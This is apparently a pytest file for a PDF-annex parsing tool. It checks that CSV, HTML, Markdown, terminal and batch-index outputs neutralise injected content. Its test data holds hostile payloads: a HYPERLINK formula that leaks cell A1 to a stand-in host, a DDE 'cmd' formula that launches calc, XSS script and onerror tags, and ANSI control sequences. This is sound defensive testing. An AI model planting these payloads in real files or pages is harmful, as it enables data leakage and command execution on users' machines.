"""Text read from a PDF is data, never a formula, markup or a terminal command (issue 27).

An annex whose every text field holds formula, HTML and control-character payloads goes
through every export format, every `qa` format and a batch's `index.csv`: in CSV no text cell
starts with a formula character unescaped (numbers untouched), the HTML escapes every payload,
no raw control character reaches the terminal or the Markdown, and JSON, Parquet and CSL-JSON
keep the text as read.
"""
from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from annexparse.cli import main
from annexparse.files import FORMULA_STARTS, csv_cell
from helpers import FIXTURES, extracted

PAYLOADS = (
    '=HYPERLINK("http://example.org/?"&A1,"details")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "\x1b[31mred\x1b[0m and \x07 bell",
)
SCRIPT = "<script>alert('x')</script>"


def hostile_annex():
    """mongolia-2022 with a payload in every text field it prints (wordings, notes, areas, the
    scorecard, footnotes and their references' titles), the country and file name too."""
    annex = extracted("mongolia-2022").model_copy(deep=True)
    annex.country = PAYLOADS[0]
    annex.source.file = "=1+2.pdf"
    for k, indicator in enumerate(annex.indicators):
        payload = PAYLOADS[k % len(PAYLOADS)]
        indicator.indicator = payload + " " + indicator.indicator
        indicator.note = payload + " " + indicator.note
        indicator.thematic_area = payload
    for k, item in enumerate(annex.scorecard):
        item.indicator = PAYLOADS[(k + 1) % len(PAYLOADS)] + item.indicator
    for k, footnote in enumerate(annex.footnotes):
        footnote.text = PAYLOADS[(k + 2) % len(PAYLOADS)] + " " + footnote.text
        for reference in footnote.references:
            reference.title = PAYLOADS[(k + 3) % len(PAYLOADS)]
    return annex


@pytest.fixture(scope="module")
def archive(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "hostile.json").write_text(hostile_annex().model_dump_json())
    return folder


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def text_cells(path: Path):
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    return rows[0], rows[1:]


def assert_no_formula(path: Path, numeric: set[str] = frozenset()):
    header, rows = text_cells(path)
    for row in rows:
        for column, cell in zip(header, row):
            if column in numeric or not cell:
                continue
            assert not cell.startswith(FORMULA_STARTS) or csv_cell(cell) == cell, (path.name, column, cell)
            assert "\r" not in cell


def test_the_csv_tables_escape_every_formula(archive, tmp_path):
    result = run("export", archive, "-o", tmp_path / "panel.csv")
    assert result.exit_code == 0, result.output
    for name in ("panel.csv", "panel.scores.csv", "panel.references.csv"):
        assert_no_formula(tmp_path / name, numeric={"year", "previous_year", "difference_printed", "score_printed"})
    header, rows = text_cells(tmp_path / "panel.csv")
    notes = [row[header.index("note")] for row in rows]
    assert "'" + PAYLOADS[0] in " ".join(notes) and any(note.startswith("'=HYPERLINK") for note in notes)
    _, scores = text_cells(tmp_path / "panel.scores.csv")
    scores_header = text_cells(tmp_path / "panel.scores.csv")[0]
    assert scores[0][scores_header.index("difference_printed")] == "-4"  # a number stays a number


def test_wide_csv_and_stdout_escape_too(archive, tmp_path):
    assert run("export", archive, "--wide", "-o", tmp_path / "wide.csv").exit_code == 0
    assert_no_formula(tmp_path / "wide.csv", numeric={"year", "previous_year"})
    result = run("export", archive, "-o", "-")
    assert result.exit_code == 0
    (tmp_path / "stdout.csv").write_bytes(result.stdout_bytes)
    assert_no_formula(tmp_path / "stdout.csv", numeric={"year", "previous_year"})


def test_pipelines_may_keep_the_text_as_read(archive, tmp_path):
    assert run("export", archive, "--no-formula-escape", "-o", tmp_path / "raw.csv").exit_code == 0
    header, rows = text_cells(tmp_path / "raw.csv")
    assert any(row[header.index("note")].startswith(PAYLOADS[0]) for row in rows)


def test_parquet_json_and_csl_keep_the_text_as_read(archive, tmp_path):
    assert run("export", archive, "-o", tmp_path / "panel.parquet").exit_code == 0
    notes = pq.read_table(tmp_path / "panel.parquet").column("note").to_pylist()
    assert any(note.startswith(PAYLOADS[0]) for note in notes)
    assert run("export", archive, "-o", tmp_path / "refs.json").exit_code == 0
    assert PAYLOADS[3] in json.dumps(json.loads((tmp_path / "refs.json").read_text()))


def test_the_qa_reports_show_payloads_as_text(archive, tmp_path):
    terminal = run("qa", archive)
    assert "\x1b" not in terminal.output and "\x07" not in terminal.output and "\\x1b" in terminal.output
    assert run("qa", archive, "-o", tmp_path / "report.md").exit_code in (0, 10)
    markdown = (tmp_path / "report.md").read_text()
    assert "\x1b" not in markdown and "\x07" not in markdown and "\r" not in markdown
    assert run("qa", archive, "-o", tmp_path / "report.html").exit_code in (0, 10)
    html = (tmp_path / "report.html").read_text()
    assert SCRIPT not in html and "<img src=x" not in html and "&lt;script&gt;" in html
    assert run("qa", archive, "--format", "json", "-o", tmp_path / "report.json").exit_code in (0, 10)
    evidence = [side["text"] for finding in json.loads((tmp_path / "report.json").read_text())["findings"] for side in finding["evidence"]]
    assert any("\x1b[31mred" in text for text in evidence)  # JSON keeps the text as read (escaped by JSON itself)


def test_a_batch_index_escapes_a_file_name_that_is_a_formula(tmp_path):
    pdfs = tmp_path / "pdfs"
    pdfs.mkdir()
    shutil.copy(FIXTURES / "mongolia-2022.pdf", pdfs / "=1+2.pdf")
    assert run("batch", pdfs, "-o", tmp_path / "out", "--jobs", "1").exit_code == 0
    header, rows = text_cells(tmp_path / "out" / "index.csv")
    assert rows[0][header.index("file")] == "'=1+2.pdf"
    assert_no_formula(tmp_path / "out" / "index.csv")
